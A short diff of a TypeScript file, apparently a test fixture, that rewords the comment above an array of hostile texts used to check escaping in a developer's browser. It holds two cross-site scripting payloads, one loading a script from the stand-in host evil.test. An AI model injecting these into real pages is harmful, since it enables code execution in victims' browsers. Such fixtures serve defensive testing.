@@ -1,4 +1,4 @@
-/** What somebody may have a site record who wants it to run in a developer's browser. */
+/** Texts with which an attacker may try to run code in a developer's browser. */
 export const hostileTexts: readonly string[] = [
   `"'><script>alert(1)</script>`,
   '</script><script src=//evil.test></script>',
